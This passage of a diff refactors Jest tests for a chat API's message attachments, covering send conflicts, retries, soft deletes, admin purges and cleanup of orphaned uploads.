     const attachment = await uploaded(alice);
-    await sendMessage(t, alice, bob, 'first', { attachmentId: attachment.id });
+    await sendMessage(app(), alice, bob, 'first', { attachmentId: attachment.id });
 
     const again = await send(alice, { receiverId: bob, content: 'again', attachmentId: attachment.id });
     const elsewhere = await send(alice, { receiverId: stranger, content: 'fwd', attachmentId: attachment.id });
@@ -757,7 +669,7 @@ describe('sending an attachment', () => {
   });
 
   test('two sends racing with one upload: exactly one succeeds, the other is CONFLICT', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     for (let round = 0; round < 5; round++) {
       const attachment = await uploaded(alice);
       const results = await Promise.all([
@@ -767,19 +679,19 @@ describe('sending an attachment', () => {
       expect(results.map((r) => r.status).sort()).toEqual([201, 409]);
       expect(results.find((r) => r.status === 409)!.body.error.code).toBe('CONFLICT');
     }
-    const [rows] = await t.chat.sequelize.query('SELECT count(*)::int AS n, count(DISTINCT attachment_id)::int AS d FROM messages');
+    const [rows] = await app().chat.sequelize.query('SELECT count(*)::int AS n, count(DISTINCT attachment_id)::int AS d FROM messages');
     expect(rows).toEqual([{ n: 5, d: 5 }]);
   });
 
   test('a malformed attachmentId is VALIDATION_FAILED', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const res = await send(alice, { receiverId: bob, attachmentId: 'abc' });
     expect(res.status).toBe(400);
     expect(res.body.error.code).toBe('VALIDATION_FAILED');
   });
 
   test('a retry with the same clientMessageId and attachmentId returns the same message with 200', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice);
     const body = { receiverId: bob, attachmentId: attachment.id, clientMessageId: 'retry-1' };
 
@@ -789,14 +701,14 @@ describe('sending an attachment', () => {
     expect(retry.status).toBe(200);
     expect(retry.body.message).toEqual(first.body.message);
 
-    const history = await t.api().get(`/api/chat/conversations/${first.body.message.conversationId}/messages`).set(bearer(alice));
+    const history = await app().api().get(`/api/chat/conversations/${first.body.message.conversationId}/messages`).set(bearer(alice));
     expect(history.body.messages).toHaveLength(1);
   });
 
   test('reusing the clientMessageId without the attachment is CONFLICT', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice);
-    await sendMessage(t, alice, bob, 'x', { attachmentId: attachment.id, clientMessageId: 'c-1' });
+    await sendMessage(app(), alice, bob, 'x', { attachmentId: attachment.id, clientMessageId: 'c-1' });
 
     const res = await send(alice, { receiverId: bob, content: 'x', clientMessageId: 'c-1' });
     expect(res.status).toBe(409);
@@ -804,33 +716,33 @@ describe('sending an attachment', () => {
   });
 
   test('history, the conversation and the conversation list carry the attachment object', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice, GIF, 'anim.gif');
-    const sent = await sendMessage(t, alice, bob, 'look', { attachmentId: attachment.id });
+    const sent = await sendMessage(app(), alice, bob, 'look', { attachmentId: attachment.id });
     const expected = { id: attachment.id, name: 'anim.gif', mimeType: 'image/gif', size: GIF.length, url: `/api/chat/attachments/${attachment.id}` };
 
-    const history = await t.api().get(`/api/chat/conversations/${sent.message.conversationId}/messages`).set(bearer(bob));
+    const history = await app().api().get(`/api/chat/conversations/${sent.message.conversationId}/messages`).set(bearer(bob));
     expect(history.status).toBe(200);
     expect(history.body.messages[0].attachment).toEqual(expected);
 
-    const conversation = await t.api().get(`/api/chat/conversations/${sent.message.conversationId}`).set(bearer(bob));
+    const conversation = await app().api().get(`/api/chat/conversations/${sent.message.conversationId}`).set(bearer(bob));
     expect(conversation.body.conversation.lastMessage.attachment).toEqual(expected);
 
-    const list = await t.api().get('/api/chat/conversations').set(bearer(alice));
+    const list = await app().api().get('/api/chat/conversations').set(bearer(alice));
     expect(list.body.conversations[0].lastMessage.attachment).toEqual(expected);
 
     // A message with no attachment says so explicitly.
-    await sendMessage(t, bob, alice, 'nice');
-    const after = await t.api().get(`/api/chat/conversations/${sent.message.conversationId}/messages`).set(bearer(alice));
+    await sendMessage(app(), bob, alice, 'nice');
+    const after = await app().api().get(`/api/chat/conversations/${sent.message.conversationId}/messages`).set(bearer(alice));
     expect(after.body.messages.map((m: MessageJson) => m.attachment)).toEqual([expected, null]);
   });
 
   test('over the socket: send_message with attachmentId acks the message and new_message carries it', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice, JPEG, 'photo.jpg');
-    const aliceSocket = await connectAs(t, alice);
-    const bobSocket = await connectAs(t, bob);
-    const received = nextEvent<{ message: MessageJson }>(bobSocket, 'new_message');
+    const aliceSocket = await connectAs(app(), alice);
+    const bobSocket = await connectAs(app(), bob);
+    const received = nextEvent<Sent>(bobSocket, 'new_message');
 
     const ack = await emitAck<{ ok: boolean; message: MessageJson }>(aliceSocket, 'send_message', {
       receiverId: bob,
@@ -864,12 +776,12 @@ describe('sending an attachment', () => {
 
 describe('when its message is deleted', () => {
   test('after a soft delete the users get NOT_FOUND and an admin still gets the bytes', async () => {
-    const { alice, bob, stranger } = await createCast(t.chat.sequelize);
+    const { alice, bob, stranger } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice, PNG, 'dot.png');
-    const sent = await sendMessage(t, alice, bob, '', { attachmentId: attachment.id });
+    const sent = await sendMessage(app(), alice, bob, '', { attachmentId: attachment.id });
     expect((await download(bearer(bob), attachment.id)).status).toBe(200);
 
-    const removed = await t.api().delete(`/api/chat/messages/${sent.message.id}`).set(bearer(alice));
+    const removed = await app().api().delete(`/api/chat/messages/${sent.message.id}`).set(bearer(alice));
     expect(removed.status).toBe(204);
 
     for (const user of [alice, bob]) {
@@ -885,10 +797,10 @@ describe('when its message is deleted', () => {
   });
 
   test('a soft-deleted message does not free its attachment for another send', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice);
-    const sent = await sendMessage(t, alice, bob, '', { attachmentId: attachment.id });
-    await t.api().delete(`/api/chat/messages/${sent.message.id}`).set(bearer(alice)).expect(204);
+    const sent = await sendMessage(app(), alice, bob, '', { attachmentId: attachment.id });
+    await app().api().delete(`/api/chat/messages/${sent.message.id}`).set(bearer(alice)).expect(204);
 
     const res = await send(alice, { receiverId: bob, attachmentId: attachment.id });
     expect(res.status).toBe(409);
@@ -896,13 +808,13 @@ describe('when its message is deleted', () => {
   });
 
   test('an admin purge removes the bytes from disk and the attachment row', async () => {
-    const { alice, bob, stranger } = await createCast(t.chat.sequelize);
+    const { alice, bob, stranger } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice, PDF, 'doc.pdf');
     const file = diskPath(storageDir, (await storageKeyOf(attachment.id))!);
-    const sent = await sendMessage(t, alice, bob, 'erase me', { attachmentId: attachment.id });
+    const sent = await sendMessage(app(), alice, bob, 'erase me', { attachmentId: attachment.id });
     expect(fs.existsSync(file)).toBe(true);
 
-    const purge = await t.api().delete(`/api/chat/admin/messages/${sent.message.id}`).set(bearer(stranger, { admin: true }));
+    const purge = await app().api().delete(`/api/chat/admin/messages/${sent.message.id}`).set(bearer(stranger, { admin: true }));
     expect(purge.status).toBe(204);
 
     expect(fs.existsSync(file)).toBe(false);
@@ -914,13 +826,13 @@ describe('when its message is deleted', () => {
   });
 
   test('purging a message that was soft-deleted first removes its bytes too', async () => {
-    const { alice, bob, stranger } = await createCast(t.chat.sequelize);
+    const { alice, bob, stranger } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice);
     const file = diskPath(storageDir, (await storageKeyOf(attachment.id))!);
-    const sent = await sendMessage(t, alice, bob, '', { attachmentId: attachment.id });
-    await t.api().delete(`/api/chat/messages/${sent.message.id}`).set(bearer(alice)).expect(204);
+    const sent = await sendMessage(app(), alice, bob, '', { attachmentId: attachment.id });
+    await app().api().delete(`/api/chat/messages/${sent.message.id}`).set(bearer(alice)).expect(204);
 
-    await t.api().delete(`/api/chat/admin/messages/${sent.message.id}`).set(bearer(stranger, { admin: true })).expect(204);
+    await app().api().delete(`/api/chat/admin/messages/${sent.message.id}`).set(bearer(stranger, { admin: true })).expect(204);
     expect(fs.existsSync(file)).toBe(false);
     expect(await attachmentRowCount()).toBe(0);
   });
@@ -930,14 +842,14 @@ describe('clean-up of uploads never sent', () => {
   const HOUR = 60 * 60 * 1000;
 
   test('uploads older than the TTL that were never sent lose their row and bytes; sent ones stay', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const orphan = await uploaded(alice, PNG, 'orphan.png');
     const orphanFile = diskPath(storageDir, (await storageKeyOf(orphan.id))!);
     const kept = await uploaded(alice, PDF, 'kept.pdf');
     const keptFile = diskPath(storageDir, (await storageKeyOf(kept.id))!);
-    await sendMessage(t, alice, bob, '', { attachmentId: kept.id });
+    await sendMessage(app(), alice, bob, '', { attachmentId: kept.id });
 
-    const removed = await t.chat.services.attachments.removeOrphans(24 * HOUR, new Date(Date.now() + 25 * HOUR));
+    const removed = await app().chat.services.attachments.removeOrphans(24 * HOUR, new Date(Date.now() + 25 * HOUR));
 
     expect(removed).toBe(1);
     expect(await storageKeyOf(orphan.id)).toBeUndefined();
@@ -949,9 +861,9 @@ describe('clean-up of uploads never sent', () => {
   });
 
   test('a removed orphan can no longer be sent', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const orphan = await uploaded(alice);
-    await t.chat.services.attachments.removeOrphans(0, new Date(Date.now() + 1000));
+    await app().chat.services.attachments.removeOrphans(0, new Date(Date.now() + 1000));
 
     const res = await send(alice, { receiverId: bob, attachmentId: orphan.id });
     expect(res.status).toBe(404);
@@ -959,46 +871,41 @@ describe('clean-up of uploads never sent', () => {
   });
 
   test('recent unsent uploads within the TTL are kept', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const recent = await uploaded(alice);
     const file = diskPath(storageDir, (await storageKeyOf(recent.id))!);
 
-    expect(await t.chat.services.attachments.removeOrphans(24 * HOUR)).toBe(0);
-    expect(await t.chat.services.attachments.removeOrphans(24 * HOUR, new Date(Date.now() + 23 * HOUR))).toBe(0);
+    expect(await app().chat.services.attachments.removeOrphans(24 * HOUR)).toBe(0);
+    expect(await app().chat.services.attachments.removeOrphans(24 * HOUR, new Date(Date.now() + 23 * HOUR))).toBe(0);
 
     expect(fs.existsSync(file)).toBe(true);
     expect((await download(bearer(alice), recent.id)).status).toBe(200);
   });
 
   test('soft-deleted messages keep their attachment through the clean-up', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice);
-    const sent = await sendMessage(t, alice, bob, '', { attachmentId: attachment.id });
-    await t.api().delete(`/api/chat/messages/${sent.message.id}`).set(bearer(alice)).expect(204);
+    const sent = await sendMessage(app(), alice, bob, '', { attachmentId: attachment.id });
+    await app().api().delete(`/api/chat/messages/${sent.message.id}`).set(bearer(alice)).expect(204);
 
-    expect(await t.chat.services.attachments.removeOrphans(0, new Date(Date.now() + 1000))).toBe(0);
+    expect(await app().chat.services.attachments.removeOrphans(0, new Date(Date.now() + 1000))).toBe(0);
     expect(await storageKeyOf(attachment.id)).toBeDefined();
   });
 
   describe('with a short configured TTL', () => {
-    let quick: TestApp;
-    let quickDir: string;
-    beforeAll(async () => {
-      quickDir = tempDir();
-      quick = await startTestApp({ attachments: { directory: quickDir, orphanTtlMs: 500 } });
-    });
-    afterAll(() => quick.close());
+    const quickDir = tempDir();
+    const quick = useStartedApp({ attachments: { directory: quickDir, orphanTtlMs: 500 } });
 
     test('the periodic sweep removes an unsent upload by itself', async () => {
-      const { alice } = await createCast(quick.chat.sequelize);
-      const orphan = await uploaded(alice, PNG, 'dot.png', quick);
-      const file = diskPath(quickDir, (await storageKeyOf(orphan.id, quick))!);
+      const { alice } = await createCast(quick().chat.sequelize);
+      const orphan = await uploaded(alice, PNG, 'dot.png', quick());
+      const file = diskPath(quickDir, (await storageKeyOf(orphan.id, quick()))!);
       expect(fs.existsSync(file)).toBe(true);
 
       const deadline = Date.now() + 8000;
       while (fs.existsSync(file) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 100));
       expect(fs.existsSync(file)).toBe(false);
-      expect(await storageKeyOf(orphan.id, quick)).toBeUndefined();
+      expect(await storageKeyOf(orphan.id, quick())).toBeUndefined();
     });
   });
 });
